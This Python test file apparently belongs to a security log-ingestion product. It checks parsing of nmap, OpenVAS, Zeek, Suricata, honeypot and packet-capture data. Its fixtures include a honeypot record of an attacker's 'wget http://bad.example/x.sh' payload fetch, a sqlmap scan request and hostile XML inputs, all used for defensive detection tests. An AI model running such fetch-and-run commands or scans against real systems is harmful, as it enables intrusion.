"""What probes, sensors and honeypots tell, brought in as they write it and found again as what it is: through the pages and the API, nothing between replaced."""

import json
import os
from datetime import UTC, datetime, timedelta
from io import BytesIO
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.urls import reverse
from tests.engines.connect import packets
from tests.patience import wait_for
from tests.rooms.lake.conftest import doors

from lianfang.commons.jobs import actions as jobs
from lianfang.engines.connect import captures
from lianfang.kernel import clock
from lianfang.kernel.viewer import SYSTEM
from lianfang.rooms.detect import actions as detect
from lianfang.rooms.lake import actions, models

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def node(client_of):
    """``node.upload(name, content)``: a file through the page; ``node.send(source, lines)``: over HTTP; ``node.found(…)``: what the API finds, newest last."""

    class Node:
        def __init__(self):
            self.client = client_of("member")
            self.client.cookies["django_language"] = "en"

        def source(self, name):
            answer = self.client.post("/api/lake/source/", json.dumps({"name": name, "kind": "http", "codec": "auto"}), content_type="application/json")
            assert answer.status_code in (200, 201), answer.content

        def upload(self, name, content):
            source = name.replace(".", "-")
            if not models.Source.objects.filter(name=source).exists():
                self.source(source)
            file = BytesIO(content)
            file.name = name
            answer = self.client.post("/lake/upload/", {"files": [file], "source": source})
            assert answer.status_code == 302, answer.content
            jobs.work(once=True)
            actions.drain()
            return self.found(source)

        def send(self, name, *lines):
            self.source(name)
            body = b"\n".join(line if isinstance(line, bytes) else json.dumps(line, ensure_ascii=False).encode() for line in lines)
            answer = self.client.post(f"/api/lake/ingest/{name}", data=body, content_type="text/plain")
            assert answer.status_code == 202 and answer.json()["rejected"] == 0, answer.content
            actions.drain()
            return self.found(name)

        def found(self, source, **more):
            query = {"since": "2020-01-01T00:00:00Z", "filter": f"source:is:{source}", "limit": 100, **more}
            lines = self.client.get("/api/lake/events/", query).json()["events"]
            return [self.client.get(f"/api/lake/events/{line['event_id']}/").json() for line in reversed(lines)]

    return Node()


def ago(minutes: int) -> datetime:
    return clock.now().replace(microsecond=0, tzinfo=UTC) - timedelta(minutes=minutes)


NMAP = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE nmaprun>
<?xml-stylesheet href="file:///usr/share/nmap/nmap.xsl" type="text/xsl"?>
<nmaprun scanner="nmap" args="nmap -sV -O --script vulners -oX out.xml 192.0.2.0/24" start="{at}" version="7.94">
<host starttime="{at}" endtime="{at}"><status state="up" reason="arp-response"/>
<address addr="192.0.2.7" addrtype="ipv4"/><address addr="00:11:22:33:44:55" addrtype="mac" vendor="ACME"/>
<hostnames><hostname name="web1.harbour.example" type="PTR"/></hostnames>
<ports><extraports state="closed" count="997"/>
<port protocol="tcp" portid="22"><state state="open"/><service name="ssh" product="OpenSSH" version="8.2p1"><cpe>cpe:/a:openbsd:openssh:8.2p1</cpe></service>
<script id="vulners" output="&#xa;  cpe:/a:openbsd:openssh:8.2p1: &#xa;    &#x9;CVE-2023-38408&#x9;9.8&#x9;https://vulners.com/cve/CVE-2023-38408&#xa;    &#x9;CVE-2021-41617&#x9;7.0&#x9;https://vulners.com/cve/CVE-2021-41617"/></port>
<port protocol="tcp" portid="8080"><state state="closed"/><service name="http-proxy"/></port>
</ports><os><osmatch name="Linux 5.4" accuracy="96"/></os></host>
<host><status state="down"/><address addr="192.0.2.8" addrtype="ipv4"/></host>
<runstats><finished time="{at}"/></runstats></nmaprun>
"""
CONN = (
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\torig_bytes\tresp_bytes\tconn_state\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tcount\tcount\tstring\n{at}.5\tCabc\t192.0.2.7\t40000\t10.0.0.8\t443\ttcp\tssl\t1200\t5000\tSF\n"
)


@pytest.mark.covers("Q02")
def test_a_scan_of_the_network_tells_hosts_ports_and_vulnerabilities(node):
    at = ago(30)
    events = node.upload("out.xml", NMAP.format(at=int(at.timestamp())).encode())
    assert {(event["class_uid"], event["event_code"]) for event in events} == {(5001, "host"), (5020, "port"), (2002, "CVE-2023-38408"), (2002, "CVE-2021-41617")}
    assert {event["host"] for event in events} == {"web1.harbour.example"}
    assert {event["host_ip"] for event in events} == {"192.0.2.7"}
    by = {event["event_code"]: event for event in events}
    assert (by["host"]["message"], json.loads(by["host"]["unmapped"])["scan.mac"]) == ("Linux 5.4", "00:11:22:33:44:55")
    assert (by["port"]["dst_port"], by["port"]["service"], by["port"]["message"]) == (22, "ssh", "OpenSSH 8.2p1")
    assert (by["CVE-2023-38408"]["severity_id"], by["CVE-2021-41617"]["severity_id"]) == (5, 4)
    assert {event["time"][:16] for event in events} == {f"{at:%Y-%m-%dT%H:%M}"}


def test_lists_of_vulnerabilities_of_two_scanners_are_read_under_their_own_headings(node):
    at = ago(60)
    english = f"IP,Hostname,Port,Port Protocol,CVSS,Severity,NVT Name,CVE,Timestamp\n192.0.2.7,web1.example,443,tcp,9.8,High,OpenSSL: Heartbleed,CVE-2014-0160,{at:%Y-%m-%dT%H:%M:%SZ}\n"
    (one,) = node.upload("openvas.csv", english.encode())
    assert (one["class_uid"], one["event_code"], one["host"], one["dst_port"], one["severity_id"]) == (2002, "CVE-2014-0160", "web1.example", 443, 4)
    chinese = f"IP地址,端口,协议,漏洞名称,风险等级,CNVD编号,扫描时间\n192.0.2.9,6379,TCP,Redis 未授权访问,高危,CNVD-2015-07557,{at + timedelta(hours=8):%Y-%m-%d %H:%M:%S}\n"
    (one,) = node.upload("scan.csv", chinese.encode("gbk"))
    assert (one["class_uid"], one["event_code"], one["host_ip"], one["message"], one["severity_id"]) == (2002, "CNVD-2015-07557", "192.0.2.9", "Redis 未授权访问", 4)


def test_packets_seen_by_zeek_and_suricata_are_flows(node):
    (conn,) = node.upload("conn.log", CONN.format(at=int(ago(20).timestamp())).encode())
    assert (conn["class_uid"], conn["src_ip"], conn["dst_ip"], conn["dst_port"], conn["service"]) == (4001, "192.0.2.7", "10.0.0.8", 443, "ssl")
    flow = {
        "timestamp": f"{ago(10):%Y-%m-%dT%H:%M:%S}.000000+0000", "flow_id": 1, "event_type": "flow", "src_ip": "192.0.2.7", "src_port": 40000, "dest_ip": "10.0.0.9", "dest_port": 22, "proto": "TCP", "app_proto": "ssh",
        "pcap_filename": "case-7.pcap", "flow": {"pkts_toserver": 10, "bytes_toserver": 800, "pkts_toclient": 9, "bytes_toclient": 700, "state": "closed"},
    }  # fmt: skip
    tls = {"timestamp": flow["timestamp"], "event_type": "tls", "src_ip": "192.0.2.7", "src_port": 40001, "dest_ip": "10.0.0.9", "dest_port": 443, "proto": "TCP", "tls": {"sni": "bad.example", "ja3": {"hash": "e7d705a3286e19ea42f587b344ee6865"}}}
    found = node.send("eve", flow, tls)
    by = {event["log_name"]: event for event in found}
    assert (by["flow"]["class_uid"], by["flow"]["dst_port"], by["flow"]["service"]) == (4001, 22, "ssh")
    assert "case-7.pcap" in by["flow"]["raw"], "what Suricata read out of a capture says which"
    assert by["tls"]["hashes"] == ["e7d705a3286e19ea42f587b344ee6865"], "the fingerprint of the client is a feature to search by"


@pytest.mark.parametrize("broken", [b"<?xml version='1.0'?><!DOCTYPE nmaprun [<!ENTITY a 'x'>]><nmaprun><host/></nmaprun>", b"<nmaprun><host><address addr='192.0.2.7' addrtype='ipv4'/>", b"<nmaprun>" + b"<a>" * 5000])
def test_a_report_that_is_broken_or_hostile_is_a_reject_with_its_reason(node, broken):
    assert node.upload("bad.xml", broken) == []
    (group,) = node.client.get("/api/lake/rejects/").json()
    assert group["count"] == 1


@pytest.mark.covers("Q04")
def test_honeypots_are_read_as_they_write(node):
    """Cowrie's JSON, HFish's report, and a honeypot that nobody knows: what was tried, from where, with which name."""
    at = ago(15)
    cowrie = [
        {"eventid": "cowrie.login.failed", "username": "root", "password": "123456", "message": "login attempt [root/123456] failed", "sensor": "pot1", "timestamp": f"{at:%Y-%m-%dT%H:%M:%S}.500000Z", "src_ip": "203.0.113.7", "session": "a1b2c3"},
        {"eventid": "cowrie.command.input", "input": "wget http://bad.example/x.sh", "message": "CMD: wget", "sensor": "pot1", "timestamp": f"{at:%Y-%m-%dT%H:%M:%S}.600000Z", "src_ip": "203.0.113.7", "session": "a1b2c3"},
        {"eventid": "cowrie.session.file_download", "url": "http://bad.example/x.sh", "outfile": "dl/1", "shasum": "a" * 64, "sensor": "pot1", "timestamp": f"{at:%Y-%m-%dT%H:%M:%S}.700000Z", "src_ip": "203.0.113.7", "session": "a1b2c3"},
    ]
    login, command, download = node.send("cowrie", *cowrie)
    assert (login["class_uid"], login["status_id"], login["user"], login["src_ip"], login["host"]) == (3002, 2, "root", "203.0.113.7", "pot1")
    assert (command["class_uid"], command["process_cmd"]) == (1007, "wget http://bad.example/x.sh")
    assert (download["url"], download["hashes"], download["domains"]) == ("http://bad.example/x.sh", ["a" * 64], ["bad.example"])
    hfish = {"client_name": "pot-dmz", "client_ip": "10.0.0.60", "service_type": "SSH", "attack_type": "login", "src_ip": "203.0.113.8", "src_port": 40000, "dst_ip": "10.0.0.60", "dst_port": 22, "create_time": f"{at + timedelta(hours=8):%Y-%m-%d %H:%M:%S}", "threat_level": "高危", "info": "root&&123456"}
    (attack,) = node.send("hfish", hfish)
    assert (attack["class_uid"], attack["severity_id"], attack["host"], attack["src_ip"], attack["service"]) == (2004, 4, "pot-dmz", "203.0.113.8", "SSH")
    other = {"time": f"{at:%Y-%m-%dT%H:%M:%SZ}", "honeypot": "lure-3", "src_ip": "203.0.113.9", "dst_port": 3306, "username": "sa", "message": "probe of MySQL"}
    (one,) = node.send("lure", other)
    assert (one["src_ip"], one["user"], one["time"][:16]) == ("203.0.113.9", "sa", f"{at:%Y-%m-%dT%H:%M}")
    assert json.loads(one["raw"]) == other
    assert {event["source"] for event in node.client.get("/api/lake/events/", {"since": "2020-01-01T00:00:00Z", "filter": "ips:is:203.0.113.7"}).json()["events"]} == {"cowrie"}


# ---- captures ------------------------------------------------------------------------------------------------------

STARTER = Path(__file__).parents[3] / "content/rules/starter"


def capture(at):
    """A small network, and somebody who looks for holes in a server inside."""
    scan = b"GET /admin/login.php HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.8\r\n\r\n"
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
    return packets.pcap([*packets.office(at.timestamp()), *packets.conversation(at.timestamp() + 5, ("203.0.113.7", 50000), ("10.0.0.8", 80), [scan, answer])])


@pytest.fixture
def tshark():
    if "tshark" not in captures.installed():
        pytest.skip("tshark is not installed (python tools/real_parts.py install)")


@pytest.fixture
def nothing_reads(monkeypatch):
    """A node on which no program that reads captures is installed."""
    monkeypatch.setattr(captures, "installed", dict)


@pytest.mark.covers("Q02")
@pytest.mark.realparts
def test_a_capture_that_is_uploaded_becomes_flows_names_requests_and_hellos_which_rules_examine(node, tshark):
    detect.install_pack(STARTER, actor=SYSTEM)
    at = ago(30)
    events = node.upload("case.pcap", capture(at))
    by = {(event["log_name"], event["src_ip"], event["dst_port"]): event for event in events}
    assert len(events) == 10
    page = by["flow", "10.0.0.9", 80]
    assert (page["class_uid"], page["activity_id"], page["dst_ip"], page["service"], page["time"][:16]) == (4001, 2, "198.51.100.1", "http", f"{at:%Y-%m-%dT%H:%M}")
    told = json.loads(page["unmapped"])
    assert (told["tshark.packets_out"], told["tshark.packets_in"], told["tshark.bytes_out"], told["tshark.bytes_in"]) == ("5", "3", "346", "211")
    names = {event["domain"]: event for event in events if event["class_uid"] == 4003}
    assert names["www.bad.example"]["ips"] == ["198.51.100.1", "10.0.0.9", "10.0.0.53"]
    assert names["lost.bad.example"]["activity_id"] == 1, "a name that nobody answered is a fact, too"
    request = by["http", "10.0.0.9", 80]
    assert (request["class_uid"], request["url"], request["http_status"], request["user_agent"]) == (4002, "http://www.bad.example/gate.php?id=7", 404, "curl/8.0")
    hello = by["tls", "10.0.0.9", 443]
    assert (hello["dst_host"], hello["domains"]) == ("login.bad.example", ["login.bad.example"])
    attack = by["http", "203.0.113.7", 80]
    assert attack["rules"], "the scanner is seen by the rule for web servers"
    shown = node.client.get(reverse("lake:search"), {"f": "domains:is:login.bad.example", "span": "24h"}).content.decode()
    assert hello["event_id"] in shown
    assert node.upload("case.pcap", capture(at)) == events, "the same capture again is stored once"


@pytest.mark.realparts
def test_a_capture_comes_in_by_the_api_and_by_a_watched_folder(node, tshark, tmp_path, monkeypatch):
    file = BytesIO(capture(ago(20)))
    file.name = "case.pcap"
    answer = node.client.post("/api/lake/files/sensor", {"files": [file]})
    assert answer.status_code == 202, answer.content
    jobs.work(once=True)
    actions.drain()
    assert node.client.get(urlsplit(answer.json()["watch"]).path).status_code in (200, 302)
    assert len(node.found("sensor")) == 10
    dropped(node, tmp_path / "tap" / "ring.pcap0", capture(ago(10)), monkeypatch)
    with doors():
        wait_for(lambda: models.WatchedFile.objects.filter(offset__gt=0).exists(), seconds=60)
    actions.drain()
    assert len(node.found("tap")) == 10


@pytest.mark.realparts
def test_of_a_capture_that_is_cut_off_the_beginning_is_there_and_the_rest_is_said(node, tshark):
    events = node.upload("cut.pcap", capture(ago(30))[:700])
    assert {event["log_name"] for event in events} == {"dns", "http", "flow"}
    (group,) = node.client.get("/api/lake/rejects/").json()
    assert (group["count"], group["kind"]) == (1, "Capture: It is cut off in the middle of a packet")


def test_where_no_program_reads_captures_the_upload_is_refused_with_what_to_install(node, nothing_reads):
    file = BytesIO(capture(ago(30)))
    file.name = "case.pcap"
    answer = node.client.post("/lake/upload/", {"files": [file], "source": "case"})
    assert answer.status_code == 422
    for words in ("cannot be read on this node", "not installed", "apt-get install tshark"):
        assert words in answer.content.decode()
    assert "no tshark" in node.client.get("/lake/upload/").content.decode()
    file.seek(0)
    answer = node.client.post("/api/lake/files/case", {"files": [file]})
    assert (answer.status_code, answer.json()["todo"]) == (404, "Install it on the node (apt-get install tshark), then send the capture again.")


def test_a_watched_folder_keeps_a_capture_until_there_is_a_program_and_says_so(node, nothing_reads, tmp_path, monkeypatch):
    dropped(node, tmp_path / "tap" / "a.pcap", capture(ago(10)), monkeypatch)
    with doors():
        wait_for(lambda: models.Source.objects.get(name="tap").trouble)
    page = node.client.get(f"/lake/source/{models.Source.objects.get(name='tap').pk}/").content.decode()
    assert "apt-get install tshark" in page
    assert models.WatchedFile.objects.get().offset == 0, "it is read when the program is there"


def dropped(node, path, content, monkeypatch):
    """A file that came into a watched folder a while ago, and the source ``tap`` that watches it."""
    monkeypatch.setenv("LIANFANG_FOLDERS", str(path.parent))
    path.parent.mkdir()
    path.write_bytes(content)
    os.utime(path, (ago(5).timestamp(),) * 2)
    answer = node.client.post("/api/lake/source/", json.dumps({"name": "tap", "kind": "folder", "path": str(path.parent)}), content_type="application/json")
    assert answer.status_code in (200, 201), answer.content
